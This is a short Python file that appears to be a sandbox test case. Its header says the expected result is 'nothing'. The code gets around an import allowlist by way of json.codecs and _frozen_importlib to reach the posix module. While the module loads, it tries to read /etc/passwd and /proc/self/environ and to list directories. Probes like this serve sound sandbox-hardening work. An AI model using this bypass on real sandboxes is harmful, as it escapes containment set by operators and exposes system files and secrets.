# trick: read files and the environment while the workflow's module body runs, before limits may be set up
# want: nothing
# native: finds


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def look(posix):
    """What this module gives away of the machine outside."""
    found = []
    for path in ("/etc/passwd", "/proc/self/environ", "/", "."):
        for name in ("open", "listdir", "stat"):
            try:
                getattr(posix, name)(*((path, 0) if name == "open" else (path,)))
            except (AttributeError, OSError):
                continue
            found.append(f"{name} {path}")
    if getattr(posix, "environ", None):
        found.append("environ")
    return found

FOUND = look(reach("posix"))


def run(ctx):
    return FOUND
